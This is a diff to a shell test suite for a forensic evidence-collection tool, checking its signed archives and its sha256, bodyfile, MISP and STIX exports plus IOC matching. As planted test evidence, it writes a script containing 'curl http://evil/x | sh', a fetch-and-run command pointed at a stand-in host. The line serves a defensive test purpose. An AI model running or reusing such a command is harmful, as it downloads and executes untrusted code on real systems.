@@ -19,6 +19,8 @@ E=$R/evidence
 mkdir -p "$E" "$R/var/lib/dpkg/info"
 printf '#!/bin/sh\ncurl http://evil/x | sh # EXPORT-EVIL-MARK\n' >"$E/evil.sh"
 touch -m -d '2025-02-03 04:05:06 UTC' "$E/evil.sh"
+printf 'same\n' >"$E/same"
+touch -d '2021-05-05 05:05:05 UTC' "$E/same"	# atime = mtime
 # Hostile names: sha256sum must check every one of them.
 printf 'nl\n' >"$E/new"$'\n'"line"
 printf 'bs\n' >"$E/back\\slash"
@@ -67,7 +69,7 @@ check_rc "dead-box run with the planted evidence: exit 0" 0 \
 	--sign-key "$T/k.key" -q
 A=$(archive_in "$T/o1")
 mkdir -p "$T/x1"
-zstd -dc "$A" | tar -x -C "$T/x1"
+zstd -dc "$A" | tar -x -C "$T/x1" 2>/dev/null
 ex() {	# FORMAT [args]: export A (its key given), exit status checked after
 	f=$1; shift
 	"$CC_BIN" export "$A" --format "$f" -p "$T/k.pub" "$@" >"$T/.out" 2>"$T/.err"
@@ -101,7 +103,7 @@ done
 echo tampered >>"$T/x1/files/evidence/-leading-dash"
 (cd "$T/x1" && sha256sum -c "$S" >/dev/null 2>&1)
 check "sha256sum -c fails on a file changed after extraction" test $? -ne 0
-(cd "$T/x1" && zstd -dc "$A" | tar -x files/evidence/-leading-dash)
+(cd "$T/x1" && zstd -dc "$A" | tar -x files/evidence/-leading-dash 2>/dev/null)
 check_rc "export sha256 -o -: exit 0" 0 ex sha256 -o -
 check "-o - writes the same list to stdout" cmp -s "$T/.out" "$S"
 
@@ -122,7 +124,7 @@ check "…and no output file, no temporary left" \
 # the right key: only the manifest tells, at the end of the read, once the
 # export has been written to its temporary file.
 mkdir -p "$T/re"
-zstd -dc "$A" | tar -x -C "$T/re"
+zstd -dc "$A" | tar -x -C "$T/re" 2>/dev/null
 echo "10.6.6.6 innocent" >>"$T/re/files/etc/hosts"
 (cd "$T/re" && find . -type f ! -name 'manifest.json*' -printf '%P\0' |
 	LC_ALL=C sort -z >"$T/order" && printf 'manifest.json\0manifest.json.minisig\0' >>"$T/order" &&
@@ -170,6 +172,11 @@ check "bodyfile: /etc/hosts' mtime 2023-01-02T03:04:05 as Content Modification T
 check "bodyfile: /etc/hosts' atime 2020-01-01 as Last Access Time" \
 	jqe -s 'any(.[]; .path=="/etc/hosts" and .timestamp==1577836800000000
 		and .timestamp_desc=="Last Access Time")' "$J"
+check "bodyfile: atime = mtime is one event (mactime's 'ma..'), Content Modification Time" \
+	jqe -s '[.[] | select(.path=="/evidence/same" and .timestamp==1620191105000000)] |
+		length==1 and .[0].macb=="ma.." and .[0].timestamp_desc=="Content Modification Time"' "$J"
+check "bodyfile: one event per distinct time of a file, no more" \
+	jqe -s '[.[] | select(.data_type=="fs:bodyfile") | [.path, .timestamp]] | length == (unique|length)' "$J"
 check "bodyfile: the invalid UTF-8 name as the bodyfile escapes it" \
 	jqe -s 'any(.[]; .path=="/evidence/bad-\\xff-utf8" and .data_type=="fs:bodyfile")' "$J"
 check "logins: alice's wtmp login at 1700000000 as Last Login Time" \
@@ -228,7 +235,7 @@ check "bodyfile/bodyfile.txt is the archive's bodyfile" \
 # --- IOC matches (issue 21): added to a copy of the archive, re-signed ------
 EVSHA=$(sha256sum "$E/evil.sh" | cut -d' ' -f1)
 mkdir -p "$T/ioc"
-zstd -dc "$A" | tar -x -C "$T/ioc"
+zstd -dc "$A" | tar -x -C "$T/ioc" 2>/dev/null
 mkdir -p "$T/ioc/iocs"
 printf '%s\n' \
 	'{"indicator":"10.6.6.6","type":"ipv4","id":"ioc-1","event":"evt-42","where":"live/network.jsonl","addr":"10.6.6.6","pid":321,"time":"2026-11-20T08:00:00Z"}' \
@@ -262,7 +269,7 @@ check "the IOC match at its record's time" \
 check_rc "export misp: exit 0" 0 xi misp
 M=$T/ioc.misp.json
 check "MISP: the Event's required fields, typed as the draft says" \
-	jq -e '.Event | (.uuid|test("^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))
+	jqe '.Event | (.uuid|test("^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))
 		and (.published==false) and (.info|type=="string" and length<=256)
 		and (.date|test("^[0-9]{4}-[0-9]{2}-[0-9]{2}$")) and (.timestamp|test("^[0-9]+$"))
 		and (.publish_timestamp=="0") and (.org_id|type=="string") and (.orgc_id|type=="string")
@@ -270,7 +277,7 @@ check "MISP: the Event's required fields, typed as the draft says" \
 		and (.threat_level_id|IN("1","2","3","4")) and (.analysis|IN("0","1","2"))
 		and (.attribute_count==(.Attribute|length|tostring))' "$M"
 check "MISP: every Attribute has the required fields" \
-	jq -e '[.Event.Attribute[] | (.uuid|type=="string") and (.type|type=="string")
+	jqe '[.Event.Attribute[] | (.uuid|type=="string") and (.type|type=="string")
 		and (.category|type=="string") and (.to_ids|type=="boolean")
 		and (.event_id|type=="string") and (.distribution|IN("0","1","2","3","4","5"))
 		and (.timestamp|test("^[0-9]+$")) and (.deleted==false) and (.value|type=="string")] | all' "$M"
@@ -284,7 +291,7 @@ check "MISP: ip-dst of the IOC-matched address (Network activity) with its Sight
 		.category=="Network activity" and .uuid as $u | .Sighting | length==1 and
 		.[0].type=="0" and .[0].uuid==$u and .[0].date_sighting=="1795161600")' "$M"
 check "MISP: each value once" \
-	jq -e '[.Event.Attribute[] | .type + " " + .value] | length == (unique|length)' "$M"
+	jqe '[.Event.Attribute[] | .type + " " + .value] | length == (unique|length)' "$M"
 
 # STIX 2.1: common required properties (type, spec_version, id, created,
 # modified for SDOs/SROs; type, id for SCOs); identity: name; indicator:
@@ -293,16 +300,16 @@ check "MISP: each value once" \
 check_rc "export stix: exit 0" 0 xi stix
 X=$T/ioc.stix.json
 check "STIX: a bundle with an id bundle--UUIDv4" \
-	jq -e '.type=="bundle" and (.id|test("^bundle--[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))' "$X"
+	jqe '.type=="bundle" and (.id|test("^bundle--[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))' "$X"
 check "STIX: every object's id is its type--UUIDv4, spec_version 2.1" \
-	jq -e '[.objects[] | . as $o | ($o.id|startswith($o.type + "--")) and
+	jqe '[.objects[] | . as $o | ($o.id|startswith($o.type + "--")) and
 		($o.id|test("--[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))
 		and $o.spec_version=="2.1"] | all' "$X"
 check "STIX: SDOs and SROs have created and modified (timestamps)" \
-	jq -e '[.objects[] | select(.type|IN("identity","indicator","observed-data","sighting")) |
+	jqe '[.objects[] | select(.type|IN("identity","indicator","observed-data","sighting")) |
 		(.created|test("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]+Z$")) and (.modified|type=="string")] | all' "$X"
 check "STIX: identity, indicator, observed-data, sighting required properties" \
-	jq -e '[.objects[] | if .type=="identity" then (.name|type=="string")
+	jqe '[.objects[] | if .type=="identity" then (.name|type=="string")
 		elif .type=="indicator" then (.pattern|type=="string") and .pattern_type=="stix" and (.valid_from|type=="string")
 		elif .type=="observed-data" then (.first_observed|type=="string") and (.last_observed|type=="string")
 			and (.number_observed>=1) and (.object_refs|length>=1)
@@ -311,7 +318,7 @@ check "STIX: identity, indicator, observed-data, sighting required properties" \
 		elif .type=="ipv4-addr" then (.value|type=="string")
 		else false end] | all' "$X"
 check "STIX: every reference resolves inside the bundle" \
-	jq -e '[.objects[].id] as $ids | [.objects[] | (.sighting_of_ref, .observed_data_refs[]?,
+	jqe '[.objects[].id] as $ids | [.objects[] | (.sighting_of_ref, .observed_data_refs[]?,
 		.where_sighted_refs[]?, .object_refs[]?, .created_by_ref) | select(. != null) |
 		IN($ids[])] | all' "$X"
 check "STIX: the file's SHA-256, its indicator pattern and the address" \
